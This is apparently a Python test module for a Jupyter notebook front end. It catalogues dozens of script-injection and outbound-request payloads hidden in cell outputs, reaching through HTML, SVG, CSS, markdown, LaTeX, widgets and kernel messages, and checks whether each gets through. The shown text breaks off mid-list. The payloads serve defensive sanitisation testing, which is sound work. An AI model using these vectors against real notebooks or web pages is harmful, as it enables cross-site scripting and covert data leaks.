"""Attacks on the page a notebook is shown in: outputs that try to run script or to call out.

Each is a cell. In its text ``@HIT@`` is script that sets this attack's flag on the window of the
page, ``@URL@`` the attack's address at a marker server. An attack has come through when its flag
is set, the marker was called, or its ``probe`` (script, evaluated on the page) is true.
"""

from __future__ import annotations

from dataclasses import dataclass

#: The notebook's first cell.
SETUP = """\
from IPython.display import *
import ipywidgets as w
def show(**data):
    display({'text/plain': 'refused', **{k.replace('_', '/', 1): v for k, v in data.items()}}, raw=True)
def html(text): show(text_html=text)
def markdown(text): show(text_markdown=text)
def script(text): html('<!doctype html><p>frame</p><script>' + text + '</script>')
html('<!doctype html><p id=canary>asleep</p><script>document.getElementById("canary").textContent = "awake"</script>')
ip = get_ipython()"""


#: Addresses that name the attack; the others of ``markers`` are sockets of their own.
NAMED = ("URL", "SCHEMELESS")


@dataclass(frozen=True, kw_only=True)
class Attack:
    """``click``: what the person presses, a selector. ``inspect``: ask about the cell's first name.
    ``harmless``: why this Lab, with plain
    ipykernel, does not let it through either."""

    name: str
    cell: str
    click: str = ""
    probe: str = ""
    inspect: bool = False
    harmless: str = ""

    def source(self, aims: dict[str, str]) -> str:
        """The cell's text, with ``@URL@`` and the others of ``aims`` pointing to the test's servers."""
        text = self.cell.replace("@HIT@", f"top.hit_{self.name}=1")
        for word, address in aims.items():
            text = text.replace(f"@{word}@", f"{address}/{self.name}" if word in NAMED else address)
        return text

    def came_through(self) -> str:
        """Script that is true when the flag is set or the probe holds."""
        probe = f" || !!({self.probe})" if self.probe else ""
        return f"!!top.hit_{self.name}{probe}"


def _all(prefix: str, template: str, payloads: dict[str, str]) -> list[Attack]:
    return [
        Attack(name=f"{prefix}_{name}", cell=template.replace("{}", text)) for name, text in payloads.items()
    ]


_HTML = "html(r'''{}''')"

SCRIPT = _all("script", _HTML, {
    "plain": "<script>@HIT@</script>",
    "in_table": "<table><tr><td><script>@HIT@</script></td></tr></table>",
    "mixed_case": "<ScRiPt >@HIT@</sCrIpT >",
    "module": "<script type=module>@HIT@</script>",
    "from_afar": "<script src='@URL@'></script>",
    "after_bad_markup": "<p title=\"</p><script>@HIT@</script>\"><script>@HIT@</script>",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=@HIT@>\"></noscript><img src=x onerror=@HIT@>",
    "in_comment": "<!--><img src=x onerror=@HIT@>-->",
    "template_tail": "<template><p></template><img src=x onerror=@HIT@>",
})  # fmt: skip

HANDLERS = _all("on", _HTML, {
    "error": "<img src=x onerror=@HIT@>",
    "error_slash": "<img/src='x'/onerror=@HIT@>",
    "load": "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==' onload=@HIT@>",
    "toggle": "<details open ontoggle=@HIT@><summary>x</summary>y</details>",
    "media_error": "<video><source onerror=@HIT@></video><audio src=x onerror=@HIT@></audio>",
    "animation": "<style>@keyframes spin{}</style><p style='animation:spin 1s' onanimationstart=@HIT@>x</p>",
    "focus": "<input autofocus onfocus=@HIT@ id=a_focus><script>a_focus.focus()</script>",
    "body_load": "<iframe srcdoc='<body onload=@HIT@>'></iframe>",
    "style_load": "<style onload=@HIT@>p{}</style>",
    "link_error": "<link rel=stylesheet href=x onerror=@HIT@>",
})  # fmt: skip
HANDLERS += [
    Attack(name="on_mouseover", cell=r"html('<p class=a_mouseover onmouseover=@HIT@>over</p>')", click=".a_mouseover"),
    Attack(name="on_click", cell=r"html('<p class=a_click onclick=@HIT@>press</p>')", click=".a_click"),
    Attack(name="on_pointer", cell=r"html('<p class=a_point onpointerenter=@HIT@>x</p>')", click=".a_point"),
]  # fmt: skip

SVG = _all("svg", _HTML, {
    "script": "<svg><script>@HIT@</script></svg>",
    "image": "<svg width=9 height=9><image href='@URL@' width=9 height=9 /></svg>",
    "image_xlink": "<svg width=9 height=9><image xlink:href='@URL@' width=9 height=9 /></svg>",
    "foreign": "<svg><foreignObject width=99 height=99><img src=x onerror=@HIT@></foreignObject></svg>",
    "animate": "<svg width=9 height=9><circle r=9><animate attributeName=r dur=10ms onend=@HIT@ /></circle></svg>",
    "filter": "<svg width=9 height=9><filter id=fi><feImage href='@URL@'/></filter><rect width=9 height=9 filter='url(#fi)'/></svg>",
    "fill": "<svg width=9 height=9><style>.s_f{fill:red;mask-image:url(@URL@)}</style><rect class=s_f width=9 height=9 /></svg>",
    "cursor": "<svg><title><img src=x onerror=@HIT@></title></svg>",
})  # fmt: skip
SVG += [
    Attack(name="svg_onload", cell="html('<svg onload=@HIT@></svg>')", harmless="an <svg> that script inserts fires no load event"),
    Attack(name="svg_link", cell="html('<svg width=99 height=20><a href=javascript:@HIT@><text y=15 class=a_svgl>press</text></a></svg>')", click=".a_svgl"),
    Attack(name="svg_animated_link", cell="html('<svg width=99 height=20><a><animate attributeName=href values=javascript:@HIT@ /><text y=15 class=a_svga>press</text></a></svg>')", click=".a_svga"),
    Attack(name="svg_set_link", cell="html('<svg width=99 height=20><a><set attributeName=href to=javascript:@HIT@ /><text y=15 class=a_svgs>press</text></a></svg>')", click=".a_svgs"),
    Attack(name="svg_use", cell="html('<svg width=9 height=9><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=@HIT@ /></svg>#x\" /></svg>')", harmless="Chromium loads no data address in <use> any more"),
    Attack(name="svg_mime", cell="show(**{'image/svg+xml': '<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"@HIT@\"><script>@HIT@</script></svg>'})", harmless="Lab shows image/svg+xml as a picture, which runs nothing"),
    Attack(name="svg_mime_fetch", cell="show(**{'image/svg+xml': '<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"@URL@\" width=\"9\" height=\"9\"/></svg>'})", harmless="Lab shows image/svg+xml as a picture, which fetches nothing"),
]  # fmt: skip

ADDRESSES = [
    Attack(name="link_javascript", cell="html('<a class=a_js href=javascript:@HIT@>press</a>')", click=".a_js", harmless="Lab opens links in a window of their own, and script with them"),
    Attack(name="link_javascript_tab", cell=r"html('<a class=a_jst href=\"java&#9;script:@HIT@\">press</a>')", click=".a_jst", harmless="Lab opens links in a window of their own, and script with them"),
    Attack(name="link_javascript_blank", cell="html('<a class=a_jsb href=\" &#1;JavaScript:@HIT@\">press</a>')", click=".a_jsb", harmless="Lab opens links in a window of their own, and script with them"),
    Attack(name="link_area", cell="html('<img usemap=#mm width=9 height=9 src=x><map name=mm><area class=a_map href=javascript:@HIT@ coords=0,0,9,9></map>')", click=".a_map"),
    Attack(name="link_math", cell="html('<math><mtext><a class=a_math href=javascript:@HIT@>press</a></mtext></math>')", click=".a_math", harmless="Lab opens links in a window of their own, and script with them"),
    Attack(name="link_math_row", cell="html('<math href=javascript:@HIT@ class=a_matr><mi>press</mi></math>')", click=".a_matr", harmless="Chromium does not follow href on MathML elements"),
    Attack(name="link_data", cell="html('<a class=a_data href=\"data:text/html,<script>opener.@HIT@</script>\" target=_blank>press</a>')", click=".a_data", harmless="Chromium does not open data addresses from a link"),
    Attack(name="link_ping", cell="html('<a class=a_ping href=\"#\" ping=\"@URL@\">press</a>')", click=".a_ping", harmless="Lab itself follows a link inside the page"),
    Attack(name="link_download", cell="html('<a class=a_down href=\"@URL@\" download=x>press</a>')", click=".a_down"),
]  # fmt: skip

CSS = _all("css", _HTML, {
    "import": "<style>@import '@URL@';</style>",
    "background": "<p style='background:url(@URL@)'>x</p>",
    "background_escaped": r"<p style='background:\75rl(@URL@)'>x</p>",
    "image_set": "<p style='background-image:image-set(\"@URL@\" 1x)'>x</p>",
    "list_image": "<ul style='list-style-image:url(@URL@)'><li>x</ul>",
    "content": "<style>.c_c::after{content:url(@URL@)}</style><p class=c_c>x</p>",
    "border_image": "<p style='border:9px solid;border-image:url(@URL@) 9'>x</p>",
    "font": "<style>@font-face{font-family:ff_x;src:url(@URL@)}.c_ff{font-family:ff_x}</style><p class=c_ff>x</p>",
    "variable": "<p style='--v:url(@URL@);background:var(--v)'>x</p>",
    "stylesheet": "<link rel=stylesheet href='@URL@'>",
    "selector": "<style>.jp-Notebook{--x:0} body[data-jp-theme-light]{background-image:url(@URL@)}</style>",
    "cell_text": "<style>.jp-Cell:has(.jp-OutputArea){outline-color:red;background-image:url(@URL@)}</style>",
    "shape": "<img style='width:9px;height:9px;float:left;shape-outside:url(@URL@)' src='data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=='>",
})  # fmt: skip
CSS += [
    Attack(
        name="css_overlay",
        cell="html('<div id=c_over style=\"position:fixed;top:-20000px;left:0;width:100vw;height:90000px;z-index:99999\"> </div>')",
        probe="document.elementFromPoint(700, 500)?.id === 'c_over'",
    ),
    Attack(
        name="css_page_style",
        cell="html('<style>#jp-main-dock-panel{--hit-style:1}</style>')",
        probe="getComputedStyle(document.getElementById('jp-main-dock-panel')||document.body).getPropertyValue('--hit-style') === '1'",
    ),
    Attack(
        name="css_huge_margin",
        cell="html('<div id=c_neg style=\"margin-top:-4000px;height:8000px;position:relative;z-index:9999;background:#fff\">x</div>')",
        probe="(e => e && e.closest('.jp-OutputArea-output').getBoundingClientRect().top - e.getBoundingClientRect().top > 100)(document.getElementById('c_neg'))",
    ),
    Attack(
        name="dom_clobber",
        cell="html('<a id=jupyterClobbered></a><form id=jupyterForm name=jupyterForm><input name=x></form>')",
        probe="window.jupyterClobbered || window.jupyterForm",
    ),
]  # fmt: skip

FETCHES = _all("fetch", _HTML, {
    "img": "<img src='@URL@'>",
    "img_no_scheme": "<img src='@SCHEMELESS@'>",
    "srcset": "<img srcset='@URL@ 1x'>",
    "picture": "<picture><source srcset='@URL@'><img src='data:,'></picture>",
    "lowsrc_input": "<input type=image src='@URL@'>",
    "audio": "<audio src='@URL@' preload=auto></audio>",
    "video": "<video src='@URL@' preload=auto></video>",
    "poster": "<video poster='@URL@'></video>",
    "track": "<video controls><track default src='@URL@'></video><video src='@URL@'></video>",
    "table_background": "<table background='@URL@'><tr><td>x</table>",
    "embed": "<embed src='@URL@'>",
    "object": "<object data='@URL@'></object>",
    "frame": "<iframe src='@URL@'></iframe>",
    "nested_frame": "<iframe srcdoc=\"<iframe src='@URL@'></iframe>\"></iframe>",
    "frame_image": "<iframe srcdoc=\"<img src='@URL@'>\"></iframe>",
    "preload": "<link rel=preload as=image href='@URL@'>",
    "prefetch": "<link rel=prefetch href='@URL@'>",
    "module_preload": "<link rel=modulepreload href='@URL@'>",
    "speculation": "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"@URL@\"],\"eagerness\":\"immediate\"}]}</script><script>fetch('@URL@')</script>",
    "isindex_bgsound": "<bgsound src='@URL@'><img dynsrc='@URL@' src='@URL@'>",
})  # fmt: skip
FETCHES += [
    Attack(name="fetch_preconnect", cell="html('<link rel=preconnect href=\"http://@PRECONNECT@\">')"),
    Attack(name="fetch_icon", cell="html('<link rel=icon href=\"@URL@\"><link rel=manifest href=\"@URL@\">')", harmless="a headless browser shows no icon"),
    Attack(name="meta_refresh", cell="html('<meta http-equiv=refresh content=\"0;url=@URL@\">')"),
    Attack(name="form_button", cell="html('<form action=\"@URL@\"><button class=a_form>press</button></form>')", click=".a_form"),
    Attack(name="form_action", cell="html('<form action=javascript:@HIT@><button class=a_fact>press</button></form>')", click=".a_fact"),
    Attack(name="form_button_action", cell="html('<form><button class=a_fbut formaction=javascript:@HIT@>press</button></form>')", click=".a_fbut"),
    Attack(name="form_outside", cell="html('<form id=a_out action=\"@URL@\"></form>'); html('<button form=a_out class=a_fout>press</button>')", click=".a_fout"),
    Attack(name="frame_javascript", cell="html('<iframe src=javascript:@HIT@></iframe>')"),
    Attack(name="frame_srcdoc", cell="html('<iframe srcdoc=\"<script>@HIT@</script>\"></iframe>')"),
    Attack(name="frame_nested", cell="html('<iframe srcdoc=\"<iframe srcdoc=&quot;<script>@HIT@</script>&quot;></iframe>\"></iframe>')"),
    Attack(name="frame_data", cell="html('<iframe src=\"data:text/html,<img src=@URL@>\"></iframe>')"),
    Attack(name="frame_iframe_object", cell="display(IFrame('@URL@', 200, 100))"),
    Attack(name="frame_youtube_like", cell="display(HTML('<iframe src=\"@URL@\" allow=\"autoplay\"></iframe>'))"),
    Attack(name="object_data", cell="html('<object data=\"data:text/html,<img src=@URL@>\"></object>')"),
    Attack(name="embed_svg", cell="html('<embed src=\"data:image/svg+xml,<svg xmlns=%27http://www.w3.org/2000/svg%27><image href=%27@URL@%27 width=%279%27 height=%279%27/></svg>\">')"),
    Attack(name="image_url", cell="display(Image(url='@URL@'))"),
    Attack(name="audio_url", cell="display(Audio(url='@URL@.wav', autoplay=True))"),
    Attack(name="video_url", cell="display(Video('@URL@'))"),
]  # fmt: skip

MARKDOWN = [
    *_all("markdown", "markdown(r'''{}''')", {
        "html": "<details open ontoggle=@HIT@>x</details>",
        "script": "<script>@HIT@</script>",
        "image": "![x](@URL@)",
        "image_reference": "![x][ref]\n\n[ref]: @URL@",
        "html_image": "text <img src='@URL@'> text",
        "style": "<style>@import '@URL@';</style>",
        "html_in_table": "|a|\n|-|\n|<img src='@URL@'>|",
        "html_block": "<div>\n\n![x](@URL@)\n\n</div>",
        "mermaid_image": "```mermaid\nflowchart TD\n  A@{ img: \"@URL@\", w: 60, h: 60 }\n```",
        "mermaid_css": "```mermaid\n%%{init: {\"themeCSS\": \"rect{mask-image:url(@URL@)}\"}}%%\nflowchart TD\n  A-->B\n```",
        "mermaid_label": "```mermaid\nflowchart TD\n  A[\"<img src='@URL@'>\"]\n```",
    }),
    Attack(name="markdown_link", cell="markdown('[press](javascript:@HIT@)')", click="a", harmless="Lab opens links in a window of their own, and script with them"),
    Attack(name="markdown_autolink", cell="markdown('<javascript:@HIT@>')", click="a", harmless="Lab opens links in a window of their own, and script with them"),
    Attack(name="markdown_reference", cell="markdown('[press][r]\\n\\n[r]: javascript:@HIT@')", click="a", harmless="Lab opens links in a window of their own, and script with them"),
    Attack(name="markdown_code", cell="markdown('`<img src=x onerror=@HIT@>`')", harmless="code is shown as text"),
    Attack(name="markdown_fence", cell="markdown('```html\\n<img src=x onerror=@HIT@>\\n```')", harmless="code is shown as text"),
    Attack(name="markdown_fence_name", cell="markdown('```\"><img/src=x/onerror=@HIT@>\\nx\\n```')", harmless="the name is escaped"),
    Attack(name="markdown_title", cell="markdown('[x](http://a \"><img src=x onerror=@HIT@>\")')", harmless="a title is escaped"),
    Attack(name="markdown_mermaid_link", cell="markdown('```mermaid\\nflowchart TD\\n  A-->B\\n  click A href \"javascript:@HIT@\"\\n```')", click="a", harmless="a picture of the diagram is shown"),
    Attack(name="mermaid_mime", cell="show(**{'text/vnd.mermaid': 'flowchart TD\\n  A@{ img: \"@URL@\", w: 60, h: 60 }'})"),
]  # fmt: skip

LATEX = [
    Attack(name="latex_href", cell=r"show(text_latex=r'$\href{javascript:@HIT@}{press}$')", click="a, mjx-mtext, mjx-container mjx-mrow", harmless="Lab's MathJax takes only safe addresses, styles, classes and ids"),
    Attack(name="latex_style", cell=r"show(text_latex=r'$\style{background:url(@URL@)}{x}$')", harmless="Lab's MathJax takes only safe addresses, styles, classes and ids"),
    Attack(name="latex_class", cell=r"show(text_latex=r'$\class{jp-Dialog}{x}$')", probe="document.querySelector('mjx-container .jp-Dialog')", harmless="Lab's MathJax takes only safe addresses, styles, classes and ids"),
    Attack(name="latex_id", cell=r"show(text_latex=r'$\cssId{clobberedByMath}{x}$')", probe="document.getElementById('clobberedByMath')", harmless="Lab's MathJax takes only safe addresses, styles, classes and ids"),
    Attack(name="latex_html", cell=r"show(text_latex=r'<img src=x onerror=@HIT@>')", harmless="LaTeX is shown as text"),
    Attack(name="latex_graphics", cell=r"show(text_latex=r'$\includegraphics{@URL@}$')", harmless="Lab's MathJax takes only safe addresses, styles, classes and ids"),
    Attack(name="latex_mathml", cell=r"show(text_latex=r'$\mmlToken{mtext}[href=\"javascript:@HIT@\"]{press}$')", click="a, mjx-mtext", harmless="Lab's MathJax takes only safe addresses, styles, classes and ids"),
    Attack(name="latex_require", cell=r"show(text_latex=r'$\require{html}\href{javascript:@HIT@}{press}$')", click="a, mjx-mtext", harmless="Lab's MathJax takes only safe addresses, styles, classes and ids"),
    Attack(name="latex_in_html", cell=r"html(r'<p>$\href{javascript:@HIT@}{press}$</p>')", click="a, mjx-mtext", harmless="Lab's MathJax takes only safe addresses, styles, classes and ids"),
    Attack(name="latex_in_html_style", cell=r"html(r'<p>$\style{background:url(@URL@)}{x}$</p>')", harmless="Lab's MathJax takes only safe addresses, styles, classes and ids"),
    Attack(name="latex_in_markdown", cell=r"markdown(r'$\style{background:url(@URL@)}{x}$')", harmless="Lab's MathJax takes only safe addresses, styles, classes and ids"),
    Attack(name="latex_in_label", cell=r"display(w.HTMLMath(r'$\style{background:url(@URL@)}{x}$'))", harmless="Lab's MathJax takes only safe addresses, styles, classes and ids"),
    Attack(name="latex_split_html", cell=r"html(r'<p>$\<b></b>style{background:url(@URL@)}{x}$ \(\style{background:url(@URL@)}{y}\)</p>')", harmless="Lab's MathJax takes only safe addresses, styles, classes and ids"),
    Attack(name="latex_object", cell=r"display(Math(r'\style{background:url(@URL@)}{x}'))", harmless="Lab's MathJax takes only safe addresses, styles, classes and ids"),
]  # fmt: skip

RENDERERS = [
    Attack(name="javascript_mime", cell="display(Javascript('@HIT@'))"),
    Attack(name="javascript_lib", cell="display(Javascript('1', lib=['@URL@']))"),
    Attack(name="javascript_text", cell="show(**{'text/javascript': '@HIT@', 'application/x-javascript': '@HIT@'})"),
    Attack(name="vegalite_data", cell="show(**{'application/vnd.vegalite.v5+json': {'$schema': 'https://vega.github.io/schema/vega-lite/v5.json', 'data': {'url': '@URL@'}, 'mark': 'bar', 'encoding': {}}})"),
    Attack(name="vegalite_image", cell="show(**{'application/vnd.vegalite.v5+json': {'$schema': 'https://vega.github.io/schema/vega-lite/v5.json', 'data': {'values': [{'u': '@URL@'}]}, 'mark': {'type': 'image', 'width': 9, 'height': 9}, 'encoding': {'url': {'field': 'u'}}}})"),
    Attack(name="vega_expression", cell="show(**{'application/vnd.vega.v5+json': {'$schema': 'https://vega.github.io/schema/vega/v5.json', 'width': 9, 'height': 9, 'data': [{'name': 't', 'url': {'signal': \"'@URL@' + '/x'\"}}], 'marks': []}})"),
    Attack(name="plotly_image", cell="show(**{'application/vnd.plotly.v1+json': {'data': [{'y': [1, 2]}], 'layout': {'images': [{'source': '@URL@', 'x': 0, 'y': 1, 'sizex': 1, 'sizey': 1}]}}})"),
    Attack(name="plotly_html", cell="import plotly.graph_objects as go\ndisplay(HTML(go.Figure(data=[go.Scatter(y=[1, 2])]).to_html(include_plotlyjs=False, full_html=False, post_script='@HIT@')), HTML('<script>@HIT@</script>'))"),
    Attack(name="plotly_label", cell="show(**{'application/vnd.plotly.v1+json': {'data': [{'y': [1, 2]}], 'layout': {'title': {'text': '<img src=x onerror=@HIT@><a href=\"javascript:@HIT@\">x</a>'}}}})", harmless="plotly.js draws labels from a short list of tags"),
    Attack(name="geojson", cell="show(**{'application/geo+json': {'type': 'Point', 'coordinates': [0, 0], 'properties': {'url-template': '@URL@'}}})", harmless="Lab has no renderer for it"),
    Attack(name="pdf", cell="show(**{'application/pdf': 'JVBERi0xLjEKMSAwIG9iajw8L1R5cGUvQ2F0YWxvZy9QYWdlcyAyIDAgUi9PcGVuQWN0aW9uPDwvUy9VUkkvVVJJKEBVUkxAKT4+Pj5lbmRvYmoK'})", harmless="a headless browser has no viewer for it"),
    Attack(name="json_html", cell="display(JSON({'<img src=x onerror=@HIT@>': '<img src=x onerror=@HIT@>'}))", harmless="the JSON viewer shows text"),
    Attack(name="widget_view_html", cell="show(**{'application/vnd.jupyter.widget-view+json': {'model_id': '<img src=x onerror=@HIT@>', 'version_major': 2, 'version_minor': 0}})", harmless="the id is looked up only"),
    Attack(name="isolated", cell="display({'text/html': '<script>@HIT@</script>'}, metadata={'text/html': {'isolated': True}, 'isolated': True}, raw=True)"),
    Attack(name="metadata_image", cell="display({'image/png': 'iVBORw0KGgo=', 'text/plain': 'x'}, metadata={'image/png': {'width': '9\" onerror=\"@HIT@', 'unconfined': True}, 'width': 1}, raw=True)", harmless="Lab sets attributes one by one"),
    Attack(name="image_type", cell="show(**{'image/png': 'x\" onerror=\"@HIT@'})", harmless="Lab sets attributes one by one"),
    Attack(name="mime_parameter", cell="show(**{'text/html;x=1': '<script>@HIT@</script>', 'TEXT/HTML': '<script>@HIT@</script>'})", harmless="Lab knows exact types only"),
]  # fmt: skip

WIDGETS = [
    Attack(name="widget_html", cell="display(w.HTML('<img src=x onerror=@HIT@>'))"),
    Attack(name="widget_html_image", cell="display(w.HTML('<img src=\"@URL@\">'))"),
    Attack(name="widget_html_style", cell="display(w.HTML('<style>@import \"@URL@\";</style>'))"),
    Attack(name="widget_html_updated", cell="x_h = w.HTML('good'); display(x_h); x_h.value = '<img src=x onerror=@HIT@>'"),
    Attack(name="widget_html_math", cell="display(w.HTMLMath('<img src=x onerror=@HIT@>'))"),
    Attack(name="widget_description", cell="display(w.Text(description='<img src=x onerror=@HIT@>', description_allow_html=True))", harmless="the widget cleans it"),
    Attack(name="widget_description_image", cell="display(w.Text(description='<img src=\"@URL@\">', description_allow_html=True))"),
    Attack(name="widget_description_plain", cell="display(w.Text(description='<img src=x onerror=@HIT@>'))", harmless="shown as text"),
    Attack(name="widget_label", cell="display(w.Label('<img src=x onerror=@HIT@>'))", harmless="shown as text"),
    Attack(name="widget_tab_title", cell="display(w.Tab([w.Label('x')], titles=['<img src=x onerror=@HIT@>']), w.Accordion([w.Label('x')], titles=['<img src=x onerror=@HIT@>']))", harmless="shown as text"),
    Attack(name="widget_options", cell="display(w.Dropdown(options=['<img src=x onerror=@HIT@>']), w.RadioButtons(options=['<img src=x onerror=@HIT@>']), w.ToggleButtons(options=['<img src=x onerror=@HIT@>']))", harmless="shown as text"),
    Attack(name="widget_toggle_buttons", cell="display(w.ToggleButtons(options=['a'], icons=['x\"><img/src=x/onerror=@HIT@>']))", harmless="a class list takes no markup"),
    Attack(name="widget_placeholder", cell="display(w.Combobox(options=['\"><img src=x onerror=@HIT@>']), w.Valid(readout='<img src=x onerror=@HIT@>'), w.Button(description='<img src=x onerror=@HIT@>', tooltip='\"><img src=x onerror=@HIT@>'))", harmless="shown as text"),
    Attack(name="widget_image_url", cell="display(w.Image(value=b'@URL@', format='url'))"),
    Attack(name="widget_audio_url", cell="display(w.Audio(value=b'@URL@', format='url', autoplay=True))"),
    Attack(name="widget_video_url", cell="display(w.Video(value=b'@URL@', format='url', autoplay=True))"),
    Attack(name="widget_image_svg", cell="display(w.Image(value=b'<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"@URL@\" width=\"9\" height=\"9\"/></svg>', format='svg+xml'))", harmless="a picture fetches nothing"),
    Attack(name="widget_background", cell="display(w.HTML('x', style={'background': 'url(@URL@)'}))"),
    Attack(name="widget_label_background", cell="display(w.Label('x', style={'background': 'url(@URL@)'}), w.Text(style={'background': 'url(@URL@)'}))"),
    Attack(name="widget_overlay", cell="x_o = w.HTML('x'); x_o.add_class('jp-Dialog'); display(x_o)", probe="document.querySelector('.jp-Notebook .widget-html.jp-Dialog')"),
    Attack(name="widget_module", cell="display(w.DOMWidget(_view_module='@URL@', _view_name='V', _view_module_version='*'))", harmless="Lab loads no module that is not installed"),
    Attack(name="widget_model_module", cell="display(w.DOMWidget(_model_module='@URL@', _model_name='V', _model_module_version='*'))", harmless="Lab loads no module that is not installed"),
    Attack(name="widget_anywidget", cell=(
        "import traitlets\nclass Any(w.DOMWidget):\n    _esm = traitlets.Unicode('export default {render({el}) { @HIT@ }}').tag(sync=True)\n"
        "    _model_module = _view_module = traitlets.Unicode('anywidget').tag(sync=True)\n"
        "    _model_name = traitlets.Unicode('AnyModel').tag(sync=True); _view_name = traitlets.Unicode('AnyView').tag(sync=True)\n"
        "    _model_module_version = _view_module_version = traitlets.Unicode('~0.9.*').tag(sync=True)\ndisplay(Any())"
    ), harmless="anywidget's part of Lab is not installed"),
    Attack(name="output_append", cell="x_o1 = w.Output(); display(x_o1); x_o1.append_display_data(HTML('<img src=x onerror=@HIT@>'))"),
    Attack(name="output_captured", cell="x_o2 = w.Output(); display(x_o2)\nwith x_o2: display(HTML('<img src=x onerror=@HIT@>'))"),
    Attack(name="output_state", cell="x_o3 = w.Output(outputs=({'output_type': 'display_data', 'data': {'text/html': '<img src=x onerror=@HIT@>'}, 'metadata': {}},)); display(x_o3)"),
    Attack(name="output_javascript", cell="x_o4 = w.Output(); display(x_o4)\nwith x_o4: display(Javascript('@HIT@'))"),
    Attack(name="output_nested", cell="x_o5, x_o6 = w.Output(), w.Output(); display(x_o5)\nwith x_o5: display(x_o6)\nx_o6.append_display_data(HTML('<img src=x onerror=@HIT@>'))"),
    Attack(name="output_of_state_update", cell="x_o7 = w.Output(); display(x_o7); x_o7.outputs = ({'output_type': 'stream', 'name': 'stdout', 'text': 'x'}, {'output_type': 'display_data', 'data': {'text/html': '<script>@HIT@</script><img src=x onerror=@HIT@>'}, 'metadata': {}})"),
    Attack(name="comm_raw", cell=(
        "from ipykernel.comm import Comm\nx_state = {'_model_module': '@jupyter-widgets/controls', '_model_module_version': '2.0.0', '_model_name': 'HTMLModel', '_view_module': '@jupyter-widgets/controls',"
        " '_view_module_version': '2.0.0', '_view_name': 'HTMLView', 'value': '<img src=x onerror=@HIT@>', 'layout': 'IPY_MODEL_' + w.Layout().model_id, 'style': 'IPY_MODEL_' + w.HTML().style.model_id}\n"
        "x_c = Comm(target_name='jupyter.widget', data={'state': x_state, 'buffer_paths': []}, metadata={'version': '2.1.0'})\n"
        "display({'application/vnd.jupyter.widget-view+json': {'model_id': x_c.comm_id, 'version_major': 2, 'version_minor': 0}}, raw=True)"
    )),
    Attack(name="comm_update_raw", cell=(
        "x_u = w.HTML('good'); display(x_u)\nx_u.comm.send({'method': 'update', 'state': {'value': '<img src=x onerror=@HIT@>'}, 'buffer_paths': []})"
    )),
    Attack(name="comm_buffer", cell=(
        "x_b = w.HTML('good'); display(x_b)\nx_b.comm.send({'method': 'update', 'state': {}, 'buffer_paths': [['value']]}, buffers=[b'<img src=x onerror=@HIT@>'])"
    ), harmless="a buffer is no string: the widget shows [object DataView]"),
    Attack(name="comm_other_view", cell=(
        "x_v = w.Label('<img src=x onerror=@HIT@>'); x_v.comm.send({'method': 'update', 'state': {'_view_name': 'HTMLView'}, 'buffer_paths': []}); display(x_v)"
    )),
    Attack(name="comm_front_target", cell="from ipykernel.comm import Comm\nComm(target_name='kernel_runtime.usage', data={'html': '<img src=x onerror=@HIT@>'})", harmless="nobody listens there"),
]  # fmt: skip

MESSAGES = [
    Attack(name="update_display", cell="x_d = display(HTML('good'), display_id='x_d'); x_d.update(HTML('<img src=x onerror=@HIT@>'))"),
    Attack(name="update_display_javascript", cell="display(HTML('good'), display_id='x_e'); update_display(Javascript('@HIT@'), display_id='x_e')"),
    Attack(name="result", cell="HTML('<img src=x onerror=@HIT@>')"),
    Attack(name="result_bundle", cell="class X:\n    def _repr_mimebundle_(self, **k): return {'text/html': '<img src=x onerror=@HIT@>', 'application/javascript': '@HIT@'}\nX()"),
    Attack(name="raw_list", cell="ip.display_pub.publish({'text/html': ['<img src=x', ' onerror=@HIT@>']})"),
    Attack(name="pager", cell="ip.payload_manager.write_payload({'source': 'page', 'data': {'text/html': '<img src=x onerror=@HIT@>', 'text/plain': 'x'}, 'start': 0})"),
    Attack(name="pager_javascript", cell="ip.payload_manager.write_payload({'source': 'page', 'data': {'application/javascript': '@HIT@', 'text/plain': 'x'}, 'start': 0})"),
    Attack(name="pager_of_inspection", cell="ip.enable_html_pager = True; ip.inspector._get_info = lambda *a, **k: {'text/plain': 'x', 'text/html': '<img src=x onerror=@HIT@>'}\nip.run_line_magic('pinfo', 'html')"),
    Attack(name="inspection", cell="ip\nip.enable_html_pager = True; ip.inspector._get_info = lambda *a, **k: {'text/plain': 'x', 'text/html': '<img src=x onerror=@HIT@>'}", inspect=True, harmless="Lab sanitises what a tooltip shows"),
    Attack(name="error_html", cell="class E(Exception):\n    def _render_traceback_(self): return ['<img src=x onerror=@HIT@>', '\\x1b[31m<script>@HIT@</script>']\nraise E('<img src=x onerror=@HIT@>')", harmless="Lab shows a traceback as text"),
    Attack(name="error_link", cell="class E(Exception):\n    def _render_traceback_(self): return ['\\x1b]8;;javascript:@HIT@\\x07press\\x1b]8;;\\x07 http://\"onmouseover=@HIT@ javascript:@HIT@']\nraise E", click=".jp-RenderedText a", harmless="Lab makes links of http addresses only"),
    Attack(name="stream_html", cell="print('<img src=x onerror=@HIT@>\\x1b[1m<script>@HIT@</script>\\x1b[31;99999;\"onclick=@HIT@m')", harmless="Lab shows a stream as text"),
    Attack(name="stream_link", cell="print('\\x1b]8;;javascript:@HIT@\\x1b\\\\press\\x1b]8;;\\x1b\\\\')", click=".jp-RenderedText a", harmless="Lab knows no such links"),
    Attack(name="stderr_html", cell="import sys; print('<img src=x onerror=@HIT@>', file=sys.stderr)", harmless="Lab shows a stream as text"),
    Attack(name="stdout_mime", cell="ip.display_pub.publish({'application/vnd.jupyter.stdout': '<img src=x onerror=@HIT@>', 'application/vnd.jupyter.stderr': '<img src=x onerror=@HIT@>'})", harmless="Lab shows a stream as text"),
    Attack(name="set_next_input_run", cell="ip.set_next_input('<img src=x onerror=@HIT@>')", harmless="a cell's source is text; it is not run"),
]  # fmt: skip

#: What script does that runs in a document of its own: all that is left to it must be harmless.
FRAMES = [
    *_all("frame_script", "script(r''' {} ''')", {
        "parent": "parent.document.body; @HIT@",
        "parent_eval": "parent.eval('@HIT@')",
        "top_name": "@HIT@",
        "fetch": "fetch('@URL@')",
